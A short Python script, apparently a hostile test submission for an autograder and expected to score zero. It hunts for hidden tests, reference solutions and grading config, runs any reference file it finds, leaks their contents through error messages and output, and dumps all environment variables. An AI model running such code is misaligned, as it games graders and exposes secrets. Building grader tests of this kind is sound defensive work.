# expect: zero
# Looks for the hidden tests, reference, config, corpus and examples; if any is
# readable, uses it to answer and raises its content into the feedback.
import glob, os, sys
found = {}
roots = set()
for mod in list(sys.modules.values()):
    f = getattr(mod, "__file__", None) or ""
    if "autograder" in f:
        roots.add(f.split("/autograder/")[0])
roots |= {os.getcwd(), "/work", "/autograder/source", "/proc/1/cwd", "/proc/self/cwd"}
for root in roots:
    for pattern in ("autograder/*/reference.py", "autograder/*/test_*.py", "grading_config/*",
                    "tests/assignments/corpus/*/correct/*.py", "examples/*/*.ipynb", "solutions/*/*",
                    "**/reference.py"):
        for path in glob.glob(os.path.join(root, pattern), recursive=True)[:50]:
            try:
                found[path] = open(path).read()
            except OSError:
                pass
for path, text in found.items():
    if path.endswith("reference.py"):
        try:
            exec(text, globals())
        except Exception:
            pass
SECRET = "\n".join(f"{p}: {t[:300]}" for p, t in found.items())
if SECRET and "causal_mask" not in globals():
    def causal_mask(n):
        raise ValueError(SECRET[:2000])
print(SECRET[:5000])
print(sorted(os.environ.items()))
